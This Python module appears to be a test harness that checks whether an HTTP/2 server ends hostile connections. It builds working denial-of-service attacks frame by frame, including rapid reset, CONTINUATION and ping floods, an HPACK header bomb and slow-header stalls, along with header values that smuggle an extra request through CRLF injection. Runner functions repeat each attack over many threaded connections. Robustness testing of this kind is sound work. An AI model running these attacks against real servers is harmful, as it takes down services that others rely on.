"""Clients of HTTP/2 that mean harm, frame by frame: each breaks a rule, or keeps all of them and serves nothing.

An attack sends until its connection is ended. `attack()` runs one of them again and again and says how long each connection lasted."""
import itertools
import socket
import ssl
import struct
import threading
import time

from . import tls

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _integer(value, prefix_bits, first):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def _text(text):
    data = text.encode("latin-1")
    return _integer(len(data), 7, 0) + data


def literal(name, value):
    """A field line without indexing and without Huffman coding."""
    return b"\0" + _text(name) + _text(value)


def indexed(name, value):
    """One that stays in the table."""
    return b"\x40" + _text(name) + _text(value)


def block(path, *more, method="GET", authority=tls.HOST):
    lines = [(":method", method), (":scheme", "https"), (":path", path), (":authority", authority), *more]
    return b"".join(literal(name, value) for name, value in lines)


def settings(**values):
    numbers = {"window": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def odd():
    return itertools.count(1, 2)


class Connection:
    """Frames out, frames in. Sending fails once the other side has ended the connection."""

    def __init__(self, node, first=settings()):
        context = ssl.create_default_context(cafile=tls.AUTHORITY)
        context.set_alpn_protocols(["h2"])
        self._socket = context.wrap_socket(socket.create_connection(node.tls, timeout=30), server_hostname=tls.HOST)
        self.started = time.monotonic()
        self.sent = 0
        self.send(PREFACE + first)

    def send(self, data):
        self._socket.sendall(data)
        self.sent += len(data)

    def ended(self, within):
        """Reads what comes; whether the connection ends within that many seconds."""
        end = time.monotonic() + within
        try:
            while (left := end - time.monotonic()) > 0:
                self._socket.settimeout(left)
                if not self._socket.recv(65536):
                    return True
        except socket.timeout:
            return False
        except OSError:
            return True
        return False

    def received(self, within=1.0):
        """What comes until nothing has come for so long."""
        data = b""
        self._socket.settimeout(within)
        try:
            while chunk := self._socket.recv(65536):
                data += chunk
        except OSError:
            pass
        return data

    def close(self):
        self._socket.close()


def frames_of(data):
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        yield data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7fffffff, data[9:9 + size]
        data = data[9 + size:]


# Attacks: generators of what is sent next. A number is a pause in seconds.

def rapid_reset():
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in odd():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/attack?n={stream}")) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset():
    """CVE-2025-8671: requests that make the server take them back."""
    for stream in odd():
        wrong = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff))
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/attack?n={stream}")) + wrong


def continuation_flood():
    """CVE-2024-27316: a block of fields that never ends."""
    yield frame(HEADERS, END_STREAM, 1, block("/"))
    while True:
        yield frame(CONTINUATION, 0, 1, literal("a", "b") * 100)


def settings_flood():
    """CVE-2019-9515"""
    while True:
        yield settings(window=65535) * 20


def ping_flood():
    """CVE-2019-9512"""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 20


def empty_frames():
    """CVE-2019-9518: frames without content, of a request that does not end."""
    yield frame(HEADERS, END_HEADERS, 1, block("/upload", method="POST"))
    while True:
        yield frame(DATA, 0, 1) * 20


def tiny_windows():
    """CVE-2019-9517 and 9511: answers that may be sent byte by byte."""
    yield settings(window=0)
    for stream in odd():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) * 20


def priorities():
    """CVE-2019-9513"""
    while True:
        yield frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 10)) * 20


def header_bomb():
    """CVE-2016-6581: one entry of the table, named again and again."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block("/1024.bin") + indexed("x-bomb", "b" * 3900))
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/1024.bin") + b"\xbe" * 8000)


def translation():
    """What would be another request in HTTP/1.1."""
    tricks = (("x", "a\r\nhost: evil"), ("x", "a\n\nGET /evil HTTP/1.1"), ("x\r\nevil", "a"), ("x:", "a"), ("transfer-encoding", "chunked"),
              ("connection", "x"), ("content-length", "7"), ("upgrade", "h2c"), ("host", "evil"), ("x", "\0"))
    for stream, trick in zip(odd(), itertools.cycle(tricks)):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/evil", trick))


def slow_header():
    """A block of fields, a line now and then."""
    yield frame(HEADERS, END_STREAM, 1, block("/"))
    while True:
        yield 0.4
        yield frame(CONTINUATION, 0, 1, literal("a", "b"))


def window_stall():
    """Answers that may never be sent."""
    yield settings(window=0)
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
    while True:
        yield 0.4
        yield frame(PING, 0, 0, b"12345678")


# Attack -> what of the connection must be over within so many seconds of its first byte on a node whose timeouts are TIMEOUTS: "ends"
# itself, or the "streams" of it.
TIMEOUTS = {"header": "3s", "write_stall": "3s", "request_body": "3s"}
FAST, SLOW = 10.0, 15.0
ATTACKS = {
    rapid_reset: FAST, made_you_reset: FAST, continuation_flood: FAST, settings_flood: FAST, ping_flood: FAST, empty_frames: FAST,
    tiny_windows: FAST, priorities: FAST, header_bomb: FAST, translation: FAST, slow_header: SLOW, window_stall: None,
}


class Result:
    def __init__(self):
        self.connections = 0
        self.sent = 0
        self.longest = 0.0
        self.lasting = 0
        self.errors = []


def strike(node, attack, until):
    """One connection: how long it lasted, what was sent, and whether the server ended it."""
    connection = Connection(node)
    ended = False
    try:
        for step in attack():
            if time.monotonic() > until:
                break
            if isinstance(step, float):
                threading.Event().wait(step)
            else:
                connection.send(step)
        ended = connection.ended(within=0.1)
    except OSError:
        ended = True
    lasted = time.monotonic() - connection.started
    connection.close()
    return lasted, connection.sent, ended


def besiege(node, attack, seconds, connections=10**9):
    """Runs an attack for so long, or until that many of its connections have been ended."""
    result = Result()
    until = time.monotonic() + seconds
    while time.monotonic() < until and result.connections < connections:
        try:
            lasted, sent, ended = strike(node, attack, until)
        except OSError as error:
            result.errors.append(str(error))
            threading.Event().wait(0.1)
            continue
        result.sent += sent
        result.connections += ended
        result.lasting += not ended
        result.longest = max(result.longest, lasted if ended else 0.0)
    return result


def in_background(node, attack, seconds):
    """A thread that besieges, and where its Result will be."""
    results = []
    thread = threading.Thread(target=lambda: results.append(besiege(node, attack, seconds)))
    thread.start()
    return thread, results
